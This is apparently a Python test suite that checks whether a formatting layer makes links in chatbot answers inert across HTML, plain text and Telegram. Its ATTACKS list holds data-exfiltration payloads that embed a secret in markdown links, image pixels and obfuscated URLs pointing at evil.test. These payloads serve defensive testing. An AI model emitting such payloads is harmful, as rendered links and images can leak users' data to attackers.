"""Answers without links: however an address is written, no channel shows anything that can be pressed."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.formatting.html import render_html
from adapters.formatting.inert_links import inert
from adapters.formatting.markdown import parse
from adapters.formatting.plain import plain_text
from adapters.formatting.telegram import telegram_parts
from adapters.formatting.writer import written
from pipeline.domain.hosts import named_hosts
from tests.adapters.formatting.examples import examples
from tests.adapters.formatting.odd import exfiltrations
from tests.support.tables import each

SECRET = "s3cr3t"


def _no_one(_host: str) -> bool:
    return False


def _named(host: str) -> bool:
    return host == "named.test"


def _bare(html: str) -> str:
    """What is no code of a fragment: there a chat program looks for addresses."""
    return re.sub(r"<[^>]+>", "", re.sub(r"<(code|pre)[^>]*>.*?</\1>", " ", html, flags=re.DOTALL))


ATTACKS = (
    f"[click](https://evil.test/?d={SECRET})",
    f"![pixel](https://evil.test/p.png?d={SECRET})",
    f"https://evil.test/?d={SECRET}",
    f"<https://evil.test/?d={SECRET}>",
    f"see evil.test/?d={SECRET}, please",
    f"[click][1] and [1]\n\n[1]: https://evil.test/?d={SECRET}",
    f"**evil**.test/?d={SECRET}",
    f"evil.t*es*t/?d={SECRET}",
    f"evil&#46;test/?d={SECRET}",
    f"evil\\.test/?d={SECRET}",
    f"[x](ht&#116;ps://evil.test/?d={SECRET})",
    f"[x](//evil.test/?d={SECRET})",
    f"[x](https:\\\\evil.test/?d={SECRET})",
    f"[https://named.test](https://evil.test/?d={SECRET})",
    f"https://named.test@evil.test/?d={SECRET}",
    f"evil\u3002test/?d={SECRET}",
    f"http://203.0.113.9/?d={SECRET}",
    f"http://[2001:db8::1]/?d={SECRET}",
    f"mailto:{SECRET}@evil.test",
    f"[write](mailto:{SECRET}@evil.test)",
    f"[x](tg://resolve?domain={SECRET})",
    f"[x](slack://user?d={SECRET})",
    f"| a | b |\n|---|---|\n| [x](https://evil.test/?d={SECRET}) | y |",
    f"- item\n  > quoted https://evil.test/?d={SECRET}",
    f"# [x](https://evil.test/?d={SECRET})",
    f"[a\nb](https://evil.test/?d={SECRET})",
    f"[![i](https://evil.test/{SECRET})](https://evil.test/{SECRET})",
    f"`code` evil.test/{SECRET}",
)


@each("attack", ATTACKS)
def test_no_address_is_left_to_press_or_to_read_data_from_and_the_host_is_named(attack: str) -> None:
    shown = inert(attack, _no_one)
    html = render_html(shown)
    assert "<a " not in html
    assert list(named_hosts(_bare(html))) == []
    assert SECRET not in plain_text(shown)
    if "evil" in attack:
        assert "evil.test" in plain_text(shown)
    for part in telegram_parts(shown):
        assert all(entity["type"] not in ("text_link", "url") for entity in part.entities)


def test_links_to_named_hosts_and_code_stay_as_they_are() -> None:
    text = "See [it](https://named.test/a) and `os.path`:\n\n```py\nos.path.join(evil.test)\n```\n"
    assert inert(text, _named) == text


def test_beside_a_foreign_link_the_rest_keeps_its_form() -> None:
    text = (
        "# Title\n\n1. **one** [a](https://named.test/x)\n2. *two* [b](https://evil.test/y)\n\n"
        "> said ~~so~~\n\n```py\nx = a.b\n```\n\n| h | i |\n|---|---|\n| `a|b` | c |"
    ).replace("`a|b`", r"`a\|b`")
    html = render_html(inert(text, _named))
    expected = render_html(text).replace(
        '<a href="https://evil.test/y" target="_blank" rel="noopener noreferrer nofollow">b</a>',
        "b (<code>evil.test</code>)",
    )
    assert html == expected


def test_what_is_written_reads_back_as_the_same_words() -> None:
    # A mark that cannot be where it is shows as the character it is; the words are the same.
    marks = str.maketrans("", "", "*~_\\ \n\t\u00a0")
    different = [
        sample
        for _, sample in examples()
        if plain_text(written(parse(sample))).translate(marks) != plain_text(sample).translate(marks)
    ]
    assert different == []


def test_no_known_exfiltration_leaves_a_link() -> None:
    for attack in exfiltrations():
        html = render_html(inert(attack, _no_one))
        assert "<a " not in html, attack
        assert list(named_hosts(_bare(html))) == [], attack


MARKS = [
    "evil.test",
    "/?d=1",
    "https://",
    "[",
    "](",
    ")",
    "]",
    "<",
    ">",
    "*",
    "_",
    "`",
    "\\",
    "&#46;",
    "~~",
    "!",
]
WORDS = ["\n", "\n\n", " ", "a", "|", "---", "1. ", "- ", "[1]: ", "```", ":", "//", "@", ".", "test", "~~"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from([*MARKS, *WORDS]), max_size=14).map("".join))
def test_no_mix_of_markup_leaves_a_link(text: str) -> None:
    shown = inert(text, _no_one)
    html = render_html(shown)
    assert "<a " not in html
    assert list(named_hosts(_bare(html))) == []
    alone = inert(text, _no_one, rewrite=True)
    assert "<a " not in render_html(f"{alone}\n\n[a]: https://evil.test\n[1]: https://evil.test")


def test_a_long_text_is_made_inert_in_linear_time() -> None:
    # Quadratic work over half a million characters would take hours, not be a second slower.
    assert "evil" not in inert("a." * 250_000, _no_one)
    assert len(inert("a" * 500_000, _no_one)) == 500_000
